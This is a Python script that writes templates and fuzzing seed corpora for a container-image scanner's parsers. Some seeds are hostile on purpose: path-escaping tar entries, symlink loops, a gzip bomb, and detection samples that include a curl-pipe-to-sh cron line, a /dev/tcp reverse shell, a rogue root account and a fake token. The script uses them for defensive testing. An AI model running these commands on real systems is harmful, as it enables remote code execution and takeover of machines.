#!/usr/bin/env python3
"""Write the templates and the seed corpora of the stowaway-image fuzz targets.

Templates (`fuzz/templates/`) are the fixed blobs that the structure-aware targets
embed with `include_bytes!`: a one-layer image as a plain and a gzip tar, its configs,
an OCI and a Docker image manifest, and a nested index. They are committed. This script
writes them only when one is missing, because the seeds reference their digests and a
rewrite with another zlib would change those digests.

Seeds (`fuzz/corpus/<target>/`, not committed) are small valid inputs for each target,
plus a few hostile ones (escaping names, symlink loops, a gzip bomb) that reach the
error paths at once. Standard library only; zstd seeds need the `zstd` command and are
skipped without it.

Usage: python3 fuzz/seeds.py [FUZZ_DIR]
"""

import gzip
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

# Fixed mtime of every crafted entry (2023-11-14T22:13:20Z), so templates are reproducible.
MTIME = 1_700_000_000

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
OCI_LAYER_GZIP = "application/vnd.oci.image.layer.v1.tar+gzip"
OCI_LAYER_ZSTD = "application/vnd.oci.image.layer.v1.tar+zstd"
DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
DOCKER_CONFIG = "application/vnd.docker.container.image.v1+json"
DOCKER_LAYER = "application/vnd.docker.image.rootfs.diff.tar.gzip"
REF_NAME = "org.opencontainers.image.ref.name"

# The member names the structure-aware docker-archive targets give their fixed blobs;
# fuzz/src/archive.rs uses the same names.
LEGACY_LAYER_MEMBER = "5f2b0c1e/layer.tar"
LEGACY_LAYER_ID = "5f2b0c1e"


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def digest(data: bytes) -> str:
    return "sha256:" + sha256(data)


def json_bytes(document) -> bytes:
    return json.dumps(document, indent=1, sort_keys=True).encode()


def gzip_bytes(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


def zstd_bytes(data: bytes) -> bytes | None:
    if shutil.which("zstd") is None:
        return None
    return subprocess.run(["zstd", "-q", "-c", "-3"], input=data, capture_output=True, check=True).stdout


class Layer:
    """A tar built in memory, entry by entry, with fixed owners and times."""

    def __init__(self, tar_format=tarfile.GNU_FORMAT):
        self.buffer = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buffer, mode="w", format=tar_format)

    def _info(self, name, kind, **fields):
        info = tarfile.TarInfo(name)
        info.type = kind
        info.mtime = MTIME
        info.mode = fields.pop("mode", 0o755 if kind == tarfile.DIRTYPE else 0o644)
        for key, value in fields.items():
            setattr(info, key, value)
        return info

    def dir(self, name):
        self.tar.addfile(self._info(name, tarfile.DIRTYPE))
        return self

    def file(self, name, content=b"", mode=0o644):
        info = self._info(name, tarfile.REGTYPE, mode=mode, size=len(content))
        self.tar.addfile(info, io.BytesIO(content))
        return self

    def symlink(self, name, target):
        self.tar.addfile(self._info(name, tarfile.SYMTYPE, linkname=target, mode=0o777))
        return self

    def hardlink(self, name, target):
        self.tar.addfile(self._info(name, tarfile.LNKTYPE, linkname=target))
        return self

    def special(self, name, kind):
        self.tar.addfile(self._info(name, kind))
        return self

    def raw_entry(self, info: tarfile.TarInfo, content=b""):
        info.size = len(content)
        self.tar.addfile(info, io.BytesIO(content))
        return self

    def bytes(self) -> bytes:
        self.tar.close()
        return self.buffer.getvalue()


def template_layer() -> bytes:
    return (
        Layer()
        .dir("etc")
        .file("etc/os-release", b'ID=debian\nVERSION_ID="12"\n')
        .dir("usr/bin")
        .file("usr/bin/dash", b"\x7fELF fake shell\n", mode=0o755)
        .symlink("bin", "usr/bin")
        .symlink("usr/bin/sh", "/bin/dash")
        .hardlink("usr/bin/rbash", "usr/bin/dash")
        .file("usr/lib/libc.so.6", b"\x7fELF fake libc\n")
        .bytes()
    )


def archive(members: list[tuple[str, bytes]], links: list[tuple[str, str, bytes]] = ()) -> bytes:
    """Return a tar containing `members` as regular files and `links` as (name, target, type)."""
    layer = Layer(tarfile.PAX_FORMAT)
    for name, content in members:
        layer.file(name, content)
    for name, target, kind in links:
        layer.tar.addfile(layer._info(name, kind, linkname=target))
    return layer.bytes()


def config_for(diff_ids: list[str]) -> bytes:
    config = {
        "architecture": "amd64",
        "os": "linux",
        "created": "2023-11-14T22:13:20Z",
        "config": {
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
            "Cmd": ["/bin/sh"],
            "User": "1000:1000",
            "ExposedPorts": {"8080/tcp": {}},
            "Labels": {"org.opencontainers.image.source": "stowaway-fuzz"},
            "Healthcheck": {"Test": ["CMD-SHELL", "true"]},
        },
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": [{"created_by": f"ADD layer{n}.tar /"} for n in range(len(diff_ids))]
        + [{"created_by": "CMD [\"/bin/sh\"]", "empty_layer": True}],
    }
    return json_bytes(config)


def descriptor(media_type: str, data: bytes, **extra) -> dict:
    return {"mediaType": media_type, "digest": digest(data), "size": len(data), **extra}


def image_manifest(media_type, config_type, config, layer_type, layers) -> bytes:
    return json_bytes(
        {
            "schemaVersion": 2,
            "mediaType": media_type,
            "config": descriptor(config_type, config),
            "layers": [descriptor(layer_type, layer) for layer in layers],
        }
    )


def index(manifests: list[dict]) -> bytes:
    return json_bytes({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests})


def write_templates(directory: Path) -> None:
    """Create the templates that are missing; keep existing ones byte for byte."""
    directory.mkdir(parents=True, exist_ok=True)

    def keep_or_write(name: str, make) -> bytes:
        path = directory / name
        if not path.exists():
            path.write_bytes(make())
        return path.read_bytes()

    layer = keep_or_write("layer.tar", template_layer)
    layer_gz = keep_or_write("layer.tar.gz", lambda: gzip_bytes(layer))
    config = keep_or_write("config.json", lambda: config_for([digest(layer)]))
    keep_or_write("config-two-layers.json", lambda: config_for([digest(layer), digest(layer)]))
    oci_manifest = keep_or_write(
        "oci-manifest.json", lambda: image_manifest(OCI_MANIFEST, OCI_CONFIG, config, OCI_LAYER_GZIP, [layer_gz])
    )
    keep_or_write(
        "docker-manifest.json",
        lambda: image_manifest(DOCKER_MANIFEST, DOCKER_CONFIG, config, DOCKER_LAYER, [layer_gz]),
    )
    keep_or_write(
        "nested-index.json",
        lambda: index(
            [descriptor(OCI_MANIFEST, oci_manifest, platform={"os": "linux", "architecture": "amd64"})]
        ),
    )


def load_templates(directory: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(directory.iterdir()) if path.is_file()}


# --- seeds for layer_walk -----------------------------------------------------------


def hostile_layer() -> bytes:
    """Return a layer with every entry kind and the names that reach the warning paths."""
    layer = (
        Layer(tarfile.PAX_FORMAT)
        .dir("var/lib")
        .file("var/lib/.wh..wh..opq")
        .file("var/.wh.cache")
        .file("var/.wh..wh.plnk")
        .file("../escape", b"outside")
        .file("/abs/./path/../file", b"normalized")
        .hardlink("early-link", "late-target")
        .file("late-target", b"target content")
        .hardlink("escaping-link", "../../etc/shadow")
        .hardlink("missing-link", "does/not/exist")
        .symlink("loop-a", "loop-b")
        .symlink("loop-b", "loop-a")
        .symlink("up", "../../../../etc")
        .symlink("through-file/child", "x")
        .file("through-file", b"not a directory")
        .special("dev-fifo", tarfile.FIFOTYPE)
        .special("dev-char", tarfile.CHRTYPE)
        .special("dev-block", tarfile.BLKTYPE)
        .file("dup", b"first")
        .file("dup", b"second")
        .file("d" * 150 + "/" + "e" * 150, b"long name through a PAX header")
        .symlink("long-link", "t" * 300)
        .file(b"caf\xe9".decode("utf-8", "surrogateescape"), b"non-UTF-8 name")
    )
    odd = tarfile.TarInfo("volume-header")
    odd.type = b"V"
    layer.raw_entry(odd)
    return layer.bytes()


def layer_walk_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    plain = templates["layer.tar"]
    hostile = hostile_layer()
    seeds = {
        "template.tar": plain,
        "template.tar.gz": templates["layer.tar.gz"],
        "hostile.tar": hostile,
        "hostile.tar.gz": gzip_bytes(hostile),
        "two-gzip-members.tar.gz": gzip_bytes(plain[:1024]) + gzip_bytes(plain[1024:]),
        "trailing-garbage.tar.gz": gzip_bytes(plain) + b"garbage after the stream",
        "empty.tar": b"\0" * 1024,
        "ustar.tar": Layer(tarfile.USTAR_FORMAT).dir("a").file("a/b", b"ustar").bytes(),
        # 8 MiB of zeros after a valid header: decompression cost without many entries.
        "zeros-bomb.tar.gz": gzip_bytes(Layer().file("big", b"\0" * (8 << 20)).bytes()),
    }
    for name in ("template.tar", "hostile.tar"):
        compressed = zstd_bytes(seeds[name])
        if compressed is not None:
            seeds[name + ".zst"] = compressed
    return seeds


# --- seeds for the whole-image targets ----------------------------------------------


def docker_archive_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    layer, layer_gz = templates["layer.tar"], templates["layer.tar.gz"]
    config = templates["config.json"]
    config_name = sha256(config) + ".json"
    layer_blob = "blobs/sha256/" + sha256(layer)
    repositories = json_bytes({"stowaway/fuzz": {"latest": LEGACY_LAYER_ID}})

    def manifest(entries):
        return json_bytes(entries)

    legacy = archive(
        [
            ("manifest.json", manifest([{"Config": config_name, "RepoTags": ["stowaway/fuzz:latest"], "Layers": [LEGACY_LAYER_MEMBER]}])),
            (config_name, config),
            (LEGACY_LAYER_MEMBER, layer),
            ("repositories", repositories),
        ]
    )
    untagged = archive(
        [
            ("manifest.json", manifest([{"Config": config_name, "RepoTags": None, "Layers": [LEGACY_LAYER_MEMBER]}])),
            (config_name, config),
            (LEGACY_LAYER_MEMBER, layer),
            ("repositories", repositories),
        ]
    )
    # Docker 25 and later: an OCI layout in the same tar, the legacy names as symlinks.
    oci_config_blob = "blobs/sha256/" + sha256(config)
    docker25 = archive(
        [
            ("manifest.json", manifest([{"Config": oci_config_blob, "RepoTags": ["stowaway/fuzz:latest"], "Layers": [layer_blob]}])),
            ("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'),
            (oci_config_blob, config),
            (layer_blob, layer),
            ("index.json", index([descriptor(OCI_MANIFEST, templates["oci-manifest.json"])])),
        ],
        [(LEGACY_LAYER_MEMBER, "../" + layer_blob, tarfile.SYMTYPE), ("hardlinked.tar", layer_blob, tarfile.LNKTYPE)],
    )
    gzip_layer = archive(
        [
            ("manifest.json", manifest([{"Config": config_name, "RepoTags": ["stowaway/fuzz:gz"], "Layers": ["layer.tar.gz"]}])),
            (config_name, config),
            ("layer.tar.gz", layer_gz),
        ]
    )
    two_images = archive(
        [
            (
                "manifest.json",
                manifest(
                    [
                        {"Config": config_name, "RepoTags": ["stowaway/fuzz:a"], "Layers": [LEGACY_LAYER_MEMBER]},
                        {"Config": config_name, "RepoTags": ["stowaway/fuzz:b"], "Layers": ["layer.tar.gz"]},
                    ]
                ),
            ),
            (config_name, config),
            (LEGACY_LAYER_MEMBER, layer),
            ("layer.tar.gz", layer_gz),
        ]
    )
    wrong_diff_id = archive(
        [
            ("manifest.json", manifest([{"Config": "config.json", "Layers": ["hostile.tar"]}])),
            ("config.json", config),
            ("hostile.tar", hostile_layer()),
        ]
    )
    return {
        "legacy.tar": legacy,
        "untagged-repositories.tar": untagged,
        "docker25.tar": docker25,
        "gzip-layer.tar": gzip_layer,
        "two-images.tar": two_images,
        "wrong-diff-id.tar": wrong_diff_id,
    }


def oci_layout_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    layer = templates["layer.tar"]
    layer_gz = templates["layer.tar.gz"]
    config = templates["config.json"]
    manifest = templates["oci-manifest.json"]
    layout = ("oci-layout", b'{"imageLayoutVersion":"1.0.0"}')

    def blob(data: bytes) -> tuple[str, bytes]:
        return ("blobs/sha256/" + sha256(data), data)

    single = archive(
        [
            layout,
            ("index.json", index([descriptor(OCI_MANIFEST, manifest, annotations={REF_NAME: "latest"})])),
            blob(manifest),
            blob(config),
            blob(layer_gz),
        ]
    )
    nested_index = templates["nested-index.json"]
    nested = archive(
        [
            layout,
            ("index.json", index([descriptor(OCI_INDEX, nested_index, annotations={REF_NAME: "latest"})])),
            blob(nested_index),
            blob(manifest),
            blob(config),
            blob(layer_gz),
        ]
    )
    seeds = {"single.tar": single, "nested-index.tar": nested}

    zstd_layer = zstd_bytes(layer)
    if zstd_layer is not None:
        zstd_manifest = image_manifest(OCI_MANIFEST, OCI_CONFIG, config, OCI_LAYER_ZSTD, [zstd_layer])
        attestation = descriptor(OCI_MANIFEST, manifest, platform={"os": "unknown", "architecture": "unknown"})
        seeds["zstd-with-attestation.tar"] = archive(
            [
                layout,
                ("index.json", index([descriptor(OCI_MANIFEST, zstd_manifest, platform={"os": "linux", "architecture": "amd64"}), attestation])),
                blob(zstd_manifest),
                blob(manifest),
                blob(config),
                blob(zstd_layer),
            ]
        )
    return seeds


# --- seeds for the structure-aware JSON targets -------------------------------------


def manifest_json_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    """Return `manifest.json` documents that name the members fuzz/src/archive.rs builds."""
    config_name = sha256(templates["config.json"]) + ".json"
    two_layers_name = sha256(templates["config-two-layers.json"]) + ".json"
    layer_blob = "blobs/sha256/" + sha256(templates["layer.tar"])
    gzip_blob = "blobs/sha256/" + sha256(templates["layer.tar.gz"])
    return {
        "legacy.json": json_bytes([{"Config": config_name, "RepoTags": ["stowaway/fuzz:latest"], "Layers": [LEGACY_LAYER_MEMBER]}]),
        "untagged.json": json_bytes([{"Config": config_name, "RepoTags": None, "Layers": [LEGACY_LAYER_MEMBER]}]),
        "oci-blobs.json": json_bytes([{"Config": config_name, "Layers": [layer_blob]}]),
        "gzip-blob.json": json_bytes([{"Config": config_name, "Layers": [gzip_blob]}]),
        "two-layers.json": json_bytes([{"Config": two_layers_name, "Layers": [LEGACY_LAYER_MEMBER, gzip_blob]}]),
        "two-images.json": json_bytes(
            [
                {"Config": config_name, "RepoTags": ["a:1"], "Layers": [LEGACY_LAYER_MEMBER]},
                {"Config": config_name, "RepoTags": ["b:2"], "Layers": [layer_blob]},
            ]
        ),
        "missing-member.json": json_bytes([{"Config": "nothing.json", "Layers": []}]),
    }


def oci_index_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    """Return `index.json` documents that name the blobs fuzz/src/archive.rs builds."""
    oci_manifest = templates["oci-manifest.json"]
    docker_manifest = templates["docker-manifest.json"]
    nested = templates["nested-index.json"]
    amd64 = {"os": "linux", "architecture": "amd64"}
    arm64 = {"os": "linux", "architecture": "arm64", "variant": "v8"}
    return {
        "single.json": index([descriptor(OCI_MANIFEST, oci_manifest, annotations={REF_NAME: "latest"})]),
        "docker-media-types.json": index([descriptor(DOCKER_MANIFEST, docker_manifest)]),
        "nested.json": index([descriptor(OCI_INDEX, nested, annotations={"io.containerd.image.name": "docker.io/stowaway/fuzz:1"})]),
        "docker-list.json": index([descriptor(DOCKER_LIST, nested)]),
        "two-platforms.json": index(
            [
                descriptor(OCI_MANIFEST, oci_manifest, platform=amd64),
                descriptor(DOCKER_MANIFEST, docker_manifest, platform=arm64),
            ]
        ),
        "attestation.json": index(
            [
                descriptor(OCI_MANIFEST, oci_manifest, platform=amd64),
                descriptor(OCI_MANIFEST, docker_manifest, platform={"os": "unknown", "architecture": "unknown"}),
            ]
        ),
        "wrong-size.json": index([{"mediaType": OCI_MANIFEST, "digest": digest(oci_manifest), "size": 1}]),
    }


def image_config_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    return {
        "config.json": templates["config.json"],
        "minimal.json": json_bytes({"rootfs": {"type": "layers", "diff_ids": [digest(templates["layer.tar"])]}}),
        "nulls.json": b'{"config": {"Env": null, "Cmd": null, "Entrypoint": null, "ExposedPorts": null, '
        b'"Volumes": null, "Labels": null, "Shell": null, "OnBuild": null, "Healthcheck": {"Test": null}}, '
        b'"rootfs": {"type": "layers", "diff_ids": null}, "history": []}',
        "sha512.json": json_bytes({"rootfs": {"type": "layers", "diff_ids": ["sha512:" + "ab" * 64]}}),
        "bad-digest.json": b'{"rootfs": {"type": "layers", "diff_ids": ["sha256:../../etc"]}}',
    }


def rpmdb_dir() -> Path | None:
    """Find the shared real rpm databases as the catalog tests do."""
    default = Path(__file__).resolve().parent.parent.parent / "shared"
    directory = Path(os.environ.get("STOWAWAY_SHARED_DIR", default)) / "data" / "rpmdb"
    if not directory.is_dir():
        print(f"seeds: {directory} not found; the rpm targets start from hostile seeds only", file=sys.stderr)
        return None
    return directory


def rpm_header_blobs(limit: int) -> list[bytes]:
    """Return the smallest header blobs of the shared SQLite rpm database."""
    directory = rpmdb_dir()
    if directory is None:
        return []
    # immutable=1 opens the read-only file without creating the WAL index beside it.
    uri = f"file:{directory / 'cbl-mariner-2.0' / 'rpmdb.sqlite'}?immutable=1"
    with sqlite3.connect(uri, uri=True) as connection:
        rows = connection.execute("SELECT blob FROM Packages ORDER BY length(blob) LIMIT ?", (limit,))
        return [bytes(row[0]) for row in rows]


def rpm_header_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    seeds = {f"mariner-{position}": blob for position, blob in enumerate(rpm_header_blobs(8))}
    # Index count past the blob, and one entry whose offset points past the data store.
    seeds["hostile-count"] = b"\xff\xff\xff\xff\x00\x00\x00\x00"
    seeds["hostile-offset"] = bytes.fromhex("00000001 00000004 000003e8 00000006 7fffffff 00000001") + b"bash"
    return seeds


def rpm_bdb_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    directory = rpmdb_dir()
    return {} if directory is None else {"libuuid": (directory / "libuuid" / "Packages").read_bytes()}


def rpm_ndb_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    directory = rpmdb_dir()
    return {} if directory is None else {"sle15-bci": (directory / "sle15-bci" / "Packages.db").read_bytes()}


def rpm_sqlite_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    """Build a small SQLite rpm database from a few real headers, because the real one is 3.6 MB."""
    blobs = rpm_header_blobs(3)
    if not blobs:
        return {}
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "rpmdb.sqlite"
        with sqlite3.connect(path) as connection:
            connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
            connection.executemany("INSERT INTO Packages (blob) VALUES (?)", [(blob,) for blob in blobs])
        connection.close()
        return {"small": path.read_bytes()}


def catalog_dpkg_status_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    status = (
        b"Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\n"
        b"Description: GNU Bourne Again SHell\n continued line\n .\n\n"
        b"Package: libssl3\nStatus: install ok half-configured\nSource: openssl (3.0.11-1)\nVersion: 3.0.11-1+b1\n\n"
        b"Package: git\nStatus: deinstall ok config-files\nVersion: 1:2.39.2-1.1\n"
    )
    return {"status": status}


def catalog_apk_installed_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    installed = (
        b"C:Q1p78yvTLG094tHE1+dToJGbmYzQE=\nP:musl\nV:1.2.4-r2\nA:x86_64\nL:MIT\no:musl\n"
        b"F:lib\nR:ld-musl-x86_64.so.1\na:0:0:755\n\nP:ssl_client\nV:1.36.1-r15\no:busybox\nF:usr/bin\nR:ssl_client\n"
    )
    return {"installed": installed}


def jar(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def catalog_java_archive_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    pom = b"groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n"
    manifest = b"Manifest-Version: 1.0\nBundle-SymbolicName: org.mongodb.bson\nBundle-Version: 3.6.3\n"
    inner = jar([("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties", pom)])
    war = jar([("WEB-INF/lib/log4j-core-2.14.1.jar", inner), ("META-INF/MANIFEST.MF", manifest)])
    return {"jar": inner, "war": war}


def detect_layer_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
    """Return one seed per path kind. The first byte picks the path: its index in the target's PATHS, modulo its length."""
    return {
        "passwd": b"\x00root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
        "cron": b"\x01SHELL=/bin/sh\n* * * * * root curl -s http://192.0.2.1/x | sh\n",
        "profile": b"\x02nohup /dev/shm/.x/run >/dev/null 2>&1 &\n",
        "keys": b"\x03ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA x@y\n",
        "md5sums": b"\x05d41d8cd98f00b204e9800998ecf8427e  usr/bin/x\n",
        "script": b"\x08bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nGITHUB_TOKEN=ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN\n",
        "setuid-elf": b"\x85\x7fELF\x02\x01\x01" + b"\x00" * 249 + b"UPX!",
    }


TARGETS = {
    "layer_walk": layer_walk_seeds,
    "docker_archive": docker_archive_seeds,
    "oci_layout": oci_layout_seeds,
    "manifest_json": manifest_json_seeds,
    "oci_index": oci_index_seeds,
    "image_config": image_config_seeds,
    "rpm_header": rpm_header_seeds,
    "rpm_bdb": rpm_bdb_seeds,
    "rpm_ndb": rpm_ndb_seeds,
    "rpm_sqlite": rpm_sqlite_seeds,
    "catalog_dpkg_status": catalog_dpkg_status_seeds,
    "catalog_apk_installed": catalog_apk_installed_seeds,
    "catalog_java_archive": catalog_java_archive_seeds,
    "detect_layer": detect_layer_seeds,
}


def main() -> None:
    fuzz_dir = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent
    write_templates(fuzz_dir / "templates")
    templates = load_templates(fuzz_dir / "templates")

    for target, make_seeds in TARGETS.items():
        corpus = fuzz_dir / "corpus" / target
        corpus.mkdir(parents=True, exist_ok=True)
        seeds = make_seeds(templates)
        for name, data in seeds.items():
            (corpus / f"seed-{name}").write_bytes(data)
        print(f"seeds: {target}: {len(seeds)} seeds in {corpus}", file=sys.stderr)


if __name__ == "__main__":
    main()
